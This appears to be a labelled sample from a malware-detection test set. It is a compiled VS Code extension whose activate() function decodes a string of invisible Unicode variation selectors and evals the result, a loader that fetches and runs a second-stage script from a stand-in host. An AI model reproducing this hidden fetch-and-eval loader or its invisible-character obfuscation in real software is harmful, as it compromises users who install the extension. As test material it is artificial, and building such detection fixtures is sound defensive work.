// expect: malicious
// source: blind set 35's VS Code extension (GlassWorm, 2025, tsc output): activate() evals what a small decoder makes
// of a template literal of invisible variation selectors, each one byte of the loader; written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.activate = activate;
function activate(context) {
    const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
    eval(Buffer.from(s(`󠄘󠅑󠅣󠅩󠅞󠅓󠄘󠄙󠄭󠄮󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅘󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄙󠄫󠅘󠄞󠅗󠅕󠅤󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅣󠅤󠅑󠅗󠅕󠄞󠅜󠅟󠅑󠅔󠅕󠅢󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄟󠅞󠅕󠅨󠅤󠄟󠅣󠅤󠅑󠅗󠅕󠄢󠄞󠅚󠅣󠄗󠄜󠅢󠄭󠄮󠅫󠅜󠅕󠅤󠄐󠅔󠄭󠄗󠄗󠄫󠅢󠄞󠅟󠅞󠄘󠄗󠅔󠅑󠅤󠅑󠄗󠄜󠅓󠄭󠄮󠅔󠄛󠄭󠅓󠄙󠄫󠅢󠄞󠅟󠅞󠄘󠄗󠅕󠅞󠅔󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅕󠅦󠅑󠅜󠄘󠅔󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅭󠄙󠅭󠄙󠄞󠅟󠅞󠄘󠄗󠅕󠅢󠅢󠅟󠅢󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅭󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅟󠅣󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅟󠅣󠄗󠄙󠄫󠅦󠅟󠅙󠅔󠄐󠅟󠅣󠄞󠅘󠅟󠅣󠅤󠅞󠅑󠅝󠅕󠄘󠄙󠅭󠄙󠄘󠄙`)).toString('utf-8'));
    context.subscriptions.push({ dispose() {} });
}
